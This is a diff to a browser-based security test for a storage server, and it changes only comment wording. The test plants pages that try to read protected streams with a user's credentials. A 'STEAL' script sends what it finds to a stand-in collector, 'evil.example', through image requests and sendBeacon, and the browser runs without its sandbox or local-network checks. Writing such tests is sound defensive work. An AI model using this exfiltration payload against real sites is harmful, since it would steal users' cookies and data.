@@ -1,6 +1,6 @@
 // Pages that steal, in Chromium.
 //
-// Somebody who may write `a/` stores pages there, in every type that a browser renders; somebody who may read everything opens them: with a
+// A writer of `a/` stores pages there, in every type that a browser renders; a user with all rights opens them: with a
 // cookie, in a tab, in a frame of another site, from the live page. Whatever a page gets hold of it sends to the collector. Then a server without
 // tokens: pages of other sites, and one whose name leads to 127.0.0.1.
 
@@ -26,7 +26,7 @@ const site = {}
 await new Promise((done) => collector.listen(0, "127.0.0.1", done))
 const thief = `http://evil.example:${collector.address().port}`
 
-/** What every script tries: to read with whatever the browser adds, to say what it found. */
+/** Every script's attempt: read with the browser's credentials, and send the result. */
 const STEAL = `
   const tell = (what) => { new Image().src = "${thief}/got?" + encodeURIComponent(what); try { navigator.sendBeacon("${thief}/got", what) } catch {} };
   tell("ran " + location.href);
@@ -67,7 +67,7 @@ await ask("/v1/stream/secret/plan", { token: ADMIN, method: "PUT", headers: { "c
 
 const browser = await chromium.launch({
   executablePath: process.env.CHROMIUM,
-  // New versions ask before a page may reach loopback; what is tried here is what the server does by itself.
+  // New versions ask before a page may reach loopback; this test is about the server's own protection.
   args: ["--no-sandbox", "--disable-dev-shm-usage", "--host-resolver-rules=MAP *.example 127.0.0.1", "--disable-features=LocalNetworkAccessChecks"],
 })
 const viewer = JSON.parse((await ask("/v1/token", { token: ADMIN, method: "POST", body: '{"prefix":"*","ttl":"1h"}' })).text).access_token
@@ -83,7 +83,7 @@ const nothing = async (claim) => {
 // Chromium may never say that a page is closed that was about to be another one.
 const shut = (one) => Promise.race([one.close(), pause(3000)])
 
-// The trap must be able to snap: as a page of its own, on a site that lets it, the same script tells.
+// The trap must be able to snap: as a page of its own, on a site that lets it, the same script reports.
 {
   site["/page"] = PAGES.html[1].replaceAll("/v1/stream/secret/plan", "/plan")
   site["/plan"] = "A PLAN"
@@ -103,11 +103,11 @@ for (const name of Object.keys(PAGES)) {
   for (const query of ["", "?offset=-1", "?offset=-1&live=long-poll"]) {
     const page = await context.newPage()
     await page.goto(`${BASE}/v1/stream/a/${name}${query}`).catch(() => {})
-    // What a person might do there.
+    // Actions of a person there.
     await page.click("#link", { timeout: 300 }).catch(() => {})
     await page.evaluate(() => document.getElementById("form")?.submit()).catch(() => {})
     await pause(150)
-    // A link that somebody follows is a link: the cookie does not travel with it, nor does the address have a token.
+    // A followed link is no embedding: the cookie does not travel with it, nor does the address have a token.
     for (let at = hits.length - 1; at >= 0; at--) if (/^GET \/clicked/.test(hits[at]) && !hits[at].includes("tws1.")) hits.splice(at, 1)
     await shut(page)
   }
@@ -197,7 +197,7 @@ try {
   await fetch(`${local}/v1/stream/secret/script`, { method: "PUT", headers: { "content-type": "text/javascript" }, body: "window.stolen = 'THE SECRET PLAN'" })
   await fetch(`${local}/v1/stream/secret/image`, { method: "PUT", headers: { "content-type": "image/svg+xml" }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>' })
   const page = await (await browser.newContext()).newPage()
-  /** What a page can do to `at`: read, embed, write, delete, list, back up. */
+  /** A page's attempts on `at`: read, embed, write, delete, list, back up. */
   const tries = (at) =>
     page.evaluate(async (at) => {
       const got = {}
